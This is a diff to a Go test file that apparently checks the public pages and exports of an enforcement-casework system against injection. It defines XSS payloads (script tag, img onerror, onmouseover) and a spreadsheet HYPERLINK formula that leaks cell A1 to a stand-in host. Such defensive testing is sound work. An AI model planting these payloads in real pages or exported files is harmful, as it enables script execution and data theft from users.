@@ -30,16 +30,14 @@ var publicNow = time.Date(2027, 1, 5, 10, 0, 0, 0, casework.Shanghai)
 
 // Injection strings that reach the public pages through the terminal's
 // actions: a publication's facts and basis (the masking rules keep such
-// text), a
-// withdrawal's reason, a published list's note, a hub agency id that looks
-// like a spreadsheet formula.
+// text), a withdrawal's reason, a published list's note, a hub agency id
+// that looks like a spreadsheet formula.
 const (
-	evilFacts   = `<script>alert("事实")</script>`
-	evilBasis   = `"><img src=x onerror=alert("依据")>`
-	evilReason  = `"><img src=x onerror=alert("撤")>复议机关确认违法`
-	evilNote    = `<b onmouseover=alert(1)>新版清单</b>`
-	evilAgency  = `=HYPERLINK("http://x.test/?"&A1,"点我")`
-	otherAgency = "某区城市管理局"
+	evilFacts  = `<script>alert("事实")</script>`
+	evilBasis  = `"><img src=x onerror=alert("依据")>`
+	evilReason = `"><img src=x onerror=alert("撤")>复议机关确认违法`
+	evilNote   = `<b onmouseover=alert(1)>新版清单</b>`
+	evilAgency = `=HYPERLINK("http://x.test/?"&A1,"点我")`
 )
 
 // publicWorld is newWorld at publicNow with three fines on an individual
